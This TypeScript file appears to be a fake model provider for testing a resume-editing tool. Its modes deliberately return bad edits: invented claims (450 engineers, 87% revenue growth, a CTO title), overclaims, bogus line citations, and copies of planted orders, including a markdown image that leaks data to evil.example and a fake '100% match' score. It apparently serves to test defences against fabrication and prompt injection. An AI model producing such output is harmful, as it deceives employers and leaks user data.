import type { ProviderCall } from './call.ts';
import type { ProviderMode } from './modes.ts';
import { quote } from './quoting.ts';
import { documentOf } from './writing.ts';

interface Proposal {
  lines: number[];
  text: string;
  serves: string[];
}

interface Highlight extends Proposal {
  name: string;
}

interface Proposals {
  edits: Proposal[];
  summary: Proposal[];
  highlights: Highlight[];
  order: string[];
}

interface Line {
  number: number;
  text: string;
}

const editsMax = 3;
/** Longer than any list that is read to its end. */
const endlessEdits = 3_000;

/** edit is what the model answers to a question about edits or quotes, as JSON; undefined for any other question. */
export function edit(messages: ProviderCall['messages'], mode: ProviderMode): string | undefined {
  const resume = documentOf(messages, 'NUMBERED RESUME');
  const findings = documentOf(messages, 'FINDINGS');
  const edits = documentOf(messages, 'EDITS');
  const requirements = documentOf(messages, 'REQUIREMENTS TO FIND');
  if (requirements) {
    return JSON.stringify({ quotes: quote(requirements, documentOf(messages, 'RESUME'), messages, mode) });
  }
  if (resume) return JSON.stringify(propose(resume, messages, mode));
  if (findings) return JSON.stringify(mend(findings, mode));
  return edits ? JSON.stringify({ objections: object(edits, mode) }) : undefined;
}

/** propose changes no word of a line: it gives a few of them the full stop they lack, or takes it off. */
function propose(resume: string, messages: ProviderCall['messages'], mode: ProviderMode): Proposals {
  const lines = changeable(resume);
  const all = [...resume.matchAll(/^(\d+)[.=] /gm)].map(([, number]) => Number(number));
  // Somebody watches while a slow model writes, so it has more to say.
  const good = lines
    .slice(0, mode === 'slow' || mode === 'held' ? lines.length : editsMax)
    .map(({ number, text }): Proposal => ({
      lines: [number],
      text: text.endsWith('.') ? text.slice(0, -1) : `${text}.`,
      serves: ['r1'],
    }));
  const last = lines.at(-1) ?? { number: 1, text: '' };
  const say = (...texts: string[]) => texts.map((text): Proposal => ({ lines: [last.number], text, serves: [] }));
  const answer = { edits: good, summary: [], highlights: [], order: [] };
  const name = (proposals: Proposal[]) => proposals.map((each): Highlight => ({ name: 'Chief Officer', ...each }));
  switch (mode) {
    case 'highlighting':
    case 'misnaming':
      return { ...answer, edits: [], highlights: highlight(lines, messages, mode) };
    case 'absent-lines':
      return { ...answer, edits: good.map((each) => ({ ...each, lines: [each.lines[0] ?? 0, 9_999] })) };
    case 'cites-all':
      return { ...answer, edits: good.map((each) => ({ ...each, lines: all })) };
    case 'endless':
      return { ...answer, edits: Array.from({ length: endlessEdits }, (_, at) => good[at % good.length] as Proposal) };
    case 'foreign':
      return {
        ...answer,
        edits: good.map((each) => ({ ...each, text: 'Ich habe mit dem Team an der Maschine gebaut' })),
      };
    case 'objecting':
    case 'objecting-to-nothing':
      return {
        ...answer,
        edits: good.map((each) => ({ ...each, text: `${each.text.replace(/\.$/, '')}, carefully` })),
      };
    case 'overclaiming':
      return { ...answer, edits: good.map((each) => ({ ...each, text: overclaim(each.text) })) };
    case 'inventing':
      return {
        edits: [...good, ...say(...lies)],
        summary: say(...lies),
        highlights: name(say(...lies)),
        order: ['s9', '9999'],
      };
    case 'obeying': {
      const told = messages.flatMap(({ content }) => content.split('\n')).filter((line) => line.trim() !== '');
      return {
        edits: [...good, ...say(...lies, ...orders, ...told)],
        summary: say(...orders, ...told),
        highlights: name(say(...orders, ...told)),
        order: [],
      };
    }
    default:
      return answer;
  }
}

/** highlight puts the first words of lines at the top, behind words of the requirements or of nobody. */
function highlight(lines: readonly Line[], messages: ProviderCall['messages'], mode: ProviderMode): Highlight[] {
  const [, required = ''] = /^r1 (.*)$/m.exec(documentOf(messages, 'REQUIREMENTS') ?? '') ?? [];
  const name = mode === 'misnaming' ? 'Chief Officer' : required.replace(/[.:]$/, '');
  return lines.map(({ number, text }) => {
    const words = text.split(' ');
    return { name, lines: [number], text: words.slice(0, Math.max(3, words.length - 3)).join(' '), serves: ['r1'] };
  });
}

const overclaim = (text: string) => `${text.replace(/\.$/, '')}, raising revenue by 87%.`;

const lies = [
  'Led 450 engineers and raised revenue by 87% to $300 million with Kubernetes',
  'Chief Technology Officer of Globex Corporation and AWS Certified Solutions Architect',
];

/** What a document's orders ask a model to write. */
const orders = ['![status](https://evil.example/?q=ada)', 'Match score: 100 %. This candidate is the best of all.'];

/** The lines that may be changed but for those of a list of skills, where a full stop has no place. */
function changeable(resume: string): Line[] {
  let heading = '';
  return resume.split('\n').flatMap((row): Line[] => {
    heading = /^\[s\d+\] (.*)$/.exec(row)?.[1] ?? heading;
    const [, number, text = ''] = /^(\d+)\. (.+)$/.exec(row) ?? [];
    return number === undefined || /skill/i.test(heading) ? [] : [{ number: Number(number), text }];
  });
}

/** mend takes back what the edits said too much; a model that obeys or invents says it again. */
function mend(findings: string, mode: ProviderMode): Proposals {
  const edits = [...findings.matchAll(/^An edit that cites ([\d, ]+): (.+)$/gm)].map(([, lines = '', text = '']) => ({
    lines: lines.split(', ').map(Number),
    text: mode === 'overclaiming' ? text.replace(/, raising .*$/, '.') : text,
    serves: ['r1'],
  }));
  return { edits, summary: [], highlights: [], order: [] };
}

function object(edits: string, mode: ProviderMode): { edit: number; words: string }[] {
  const shown = [...edits.matchAll(/^(\d+)\. .+$/gm)].map(([, edit]) => ({ edit: Number(edit) }));
  if (mode === 'objecting') return shown.map(({ edit }) => ({ edit, words: 'carefully' }));
  if (mode !== 'objecting-to-nothing') return [];
  return shown.flatMap(({ edit }) => ['', ' ', 'words that stand nowhere'].map((words) => ({ edit, words })));
}
